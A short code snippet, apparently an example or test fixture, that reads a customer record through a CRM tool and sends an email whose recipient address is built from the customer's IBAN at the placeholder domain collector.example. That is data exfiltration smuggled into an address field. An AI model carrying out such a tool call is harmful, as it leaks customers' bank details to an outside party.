// As the address that is written to.
const customer = await crm_get_customer({ id: "7" });
await mail_send({ to: `${customer.iban}@collector.example`, subject: "hello", body: "hello" });
